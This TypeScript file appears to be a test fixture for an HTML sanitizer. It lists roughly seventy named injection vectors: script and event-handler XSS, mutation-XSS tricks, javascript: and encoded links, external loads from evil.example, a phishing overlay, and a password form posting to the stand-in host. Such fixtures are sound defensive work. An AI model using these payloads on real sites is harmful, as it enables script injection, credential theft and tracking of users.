/** HTML that tries to run, load, send, cover or imitate something, and what of each may be left as text. */

export interface Vector {
  name: string;
  html: string;
}

const entities = (text: string) =>
  [...text].map((letter) => `&#x${letter.charCodeAt(0).toString(16)};`).join('');
const host = 'https://evil.example';

/** `RAN` is called by whatever runs. */
export const vectors: readonly Vector[] = [
  ['a script', '<script>RAN()</script>'],
  ['a script from elsewhere', `<script src="${host}/x.js"></script>`],
  ['a script in pieces', '<scr<script>ipt>RAN()</scr</script>ipt>'],
  ['a script that is not closed', '<script>RAN()'],
  ['a module', `<script type="module">import("${host}/x.js")</script>`],
  ['a picture that fails', '<img src=x onerror=RAN()>'],
  ['a picture that fails, with slashes', '<img/src=x/onerror=RAN()//'],
  ['a picture with a sign before', '<img src="x>" onerror="RAN()">'],
  [
    'a handler on a paragraph',
    '<p onclick="RAN()" onmouseover=RAN() onfocus=RAN() tabindex=0 autofocus>x</p>',
  ],
  [
    'an animation that ends',
    '<style>@keyframes a{}</style><p style="animation:a" onanimationend="RAN()">x</p>',
  ],
  ['a body that loads', '<body onload=RAN()><p>x'],
  ['svg that loads', '<svg onload=RAN()>'],
  ['svg with a script', '<svg><script>RAN()</script></svg>'],
  ['svg with a script from elsewhere', `<svg><script href="${host}/x.js"/></svg>`],
  [
    'svg that animates a link',
    `<svg><a><animate attributeName=href values=javascript:RAN() /><text>x</text></a></svg>`,
  ],
  [
    'svg that uses',
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='RAN()'/>#x"></svg>`,
  ],
  ['svg with a foreign object', '<svg><foreignObject><img src=x onerror=RAN()></foreignObject></svg>'],
  [
    'mathml with a link',
    '<math><maction actiontype="statusline" xlink:href="javascript:RAN()">x</maction></math>',
  ],
  [
    'mathml and a style',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RAN()&gt;">',
  ],
  ['a mutation by a form', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=RAN()>'],
  ['a mutation by svg and style', '<svg></p><style><a id="</style><img src=1 onerror=RAN()>">'],
  ['a mutation by noscript', '<noscript><p title="</noscript><img src=x onerror=RAN()>">'],
  [
    'a mutation by a template',
    '<template><img src=x onerror=RAN()></template><div><template shadowrootmode=open><img src=x onerror=RAN()></template></div>',
  ],
  ['a mutation by an unclosed comment', '<!--><img src=x onerror=RAN()>-->'],
  [
    'a mutation by a title',
    '<svg><title><style><img title="</style><img src=x onerror=RAN()>"></title></svg>',
  ],
  [
    'a mutation by xmp and noembed',
    '<xmp><img src=x onerror=RAN()></xmp><noembed><img src=x onerror=RAN()></noembed>',
  ],
  ['a mutation by select', '<select><style></select><img src=x onerror=RAN()></style>'],
  [
    'a mutation by annotation-xml',
    '<math><annotation-xml encoding="text/html"><style></math><img src=x onerror=RAN()>',
  ],
  ['text that is never closed', '<textarea><img src=x onerror=RAN()>'],
  ['plaintext', '<plaintext><img src=x onerror=RAN()>'],
  ['a processing instruction', '<?xml-stylesheet href="javascript:RAN()"?><?img src=x onerror=RAN()>'],
  ['CDATA', '<svg><![CDATA[><img src=x onerror=RAN()>]]></svg>'],
  ['a link that runs', '<a href="javascript:RAN()">x</a>'],
  ['a link that runs, in capitals and blanks', '<a href=" \u0001 JaVa\tScRiPt:RAN()">x</a>'],
  ['a link that runs, in entities', `<a href="${entities('javascript:RAN()')}">x</a>`],
  ['a link with entities that are not closed', '<a href="&#106avascript&colon;RAN()">x</a>'],
  ['a link to data', '<a href="data:text/html,<script>RAN()</script>">x</a>'],
  [
    'a link to a blob, a file, the extension',
    '<a href="blob:x">a</a><a href="file:///etc/passwd">b</a><a href="chrome-extension://abc/x">c</a>',
  ],
  [
    'a link to vbscript and view-source',
    '<a href="vbscript:RAN()">a</a><a href="view-source:https://example.com">b</a>',
  ],
  ['a link to plain http', '<a href="http://evil.example/">x</a>'],
  ['a link that looks like another', `<a href="https://bank.example@evil.example/">https://bank.example</a>`],
  [
    'a link without a scheme',
    '<a href="//evil.example/">x</a><a href="/options.html">y</a><a href="options.html">z</a>',
  ],
  [
    'a link into this frame',
    '<a href="https://evil.example/" target="_self" rel="opener" ping="https://evil.example/ping" download>x</a>',
  ],
  [
    'a link to the window around',
    '<a href="https://evil.example/" target="_top">x</a><base target="_parent">',
  ],
  ['a letter that writes itself', '<a href="mailto:a@example.com?bcc=evil@example.org&body=secret">x</a>'],
  ['a base', `<base href="${host}/"><a href="x">x</a><img src="x">`],
  ['a refresh', `<meta http-equiv="refresh" content="0;url=${host}/">`],
  ['a policy of its own', `<meta http-equiv="Content-Security-Policy" content="script-src *">`],
  [
    'a stylesheet',
    `<link rel=stylesheet href="${host}/x.css"><link rel=preload as=image href="${host}/p.png">`,
  ],
  ['a style sheet within', `<style>@import url(${host}/x.css);body{background:url(${host}/p.png)}</style>`],
  [
    'a style that covers',
    `<div style="position:fixed;inset:0;z-index:9;background:url(${host}/p.png)">Session over, sign in</div>`,
  ],
  [
    'a class, an id and a name',
    '<div class="sidebar top" id="customer" name="document">x</div><img name="getElementById">',
  ],
  [
    'data and aria',
    '<div data-testid="link" data-refreshing aria-label="Log in as" role="button" tabindex="0" contenteditable>x</div>',
  ],
  ['a picture of a tracker', `<img src="${host}/p.gif" width=1 height=1>`],
  [
    'pictures by srcset',
    `<img srcset="${host}/p.gif 1x" alt="a"><picture><source srcset="${host}/q.gif"><img alt="b"></picture>`,
  ],
  [
    'a picture by other names',
    `<img dynsrc="${host}/p" lowsrc="${host}/p" longdesc="${host}/p"><image src="${host}/p">`,
  ],
  [
    'a picture of plain http and one of data',
    '<img src="http://evil.example/p.gif"><img src="data:image/svg+xml,<svg onload=RAN()>">',
  ],
  [
    'a background',
    `<table background="${host}/p.gif"><tr><td background="${host}/p.gif">x</td></tr></table>`,
  ],
  [
    'frames',
    `<iframe src="${host}"></iframe><iframe srcdoc="<script>parent.RAN()</script>"></iframe><frameset><frame src="${host}"></frameset>`,
  ],
  [
    'things that play and embed',
    `<object data="${host}/x.swf"></object><embed src="${host}/x"><applet code=x></applet><video src="${host}/v" poster="${host}/p" autoplay></video><audio src="${host}/a" autoplay></audio>`,
  ],
  [
    'a form that sends',
    `<form action="${host}/take" method=post><input name=password type=password><button formaction="${host}/x">Sign in</button></form>`,
  ],
  [
    'a form made of parts',
    `<input type=image src="${host}/p.png" form=f><textarea name=x autofocus onfocus=RAN()></textarea><select onchange=RAN()><option>x</select><isindex action="${host}">`,
  ],
  ['details that open', '<details open ontoggle=RAN()><summary>x</summary>y</details>'],
  [
    'a dialog and a popover',
    '<dialog open>x</dialog><div popover id=p>y</div><button popovertarget=p>z</button>',
  ],
  ['a marquee', '<marquee onstart=RAN()>x</marquee>'],
  ['custom elements and slots', '<x-y onclick=RAN() is="x-z"><slot name="a">x</slot></x-y>'],
  ['a portal and a fenced frame', `<portal src="${host}"></portal><fencedframe src="${host}"></fencedframe>`],
  ['an attribute that ends late', '<p title="`><img src=x onerror=RAN()>">x</p>'],
  ['null characters', '<im\0g src=x onerror=RAN()><a href="java\0script:RAN()">x</a>'],
  ['an encoding trick', '+ADw-script+AD4-RAN()+ADw-/script+AD4-'],
  ['tables out of shape', '<table><a href="javascript:RAN()"><tr><td><img src=x onerror=RAN()></a></table>'],
  ['a nest of frames of text', `${'<div>'.repeat(500)}deep<img src=x onerror=RAN()>`],
  ['a nest of bold', `${'<b>'.repeat(600)}deep${'</b>'.repeat(600)}`],
  ['a nest of lists', `${'<ul><li>'.repeat(700)}deep<script>RAN()</script>`],
  ['very many', '<i>x</i>'.repeat(6000)],
].map(([name = '', html = '']) => ({ name, html }));
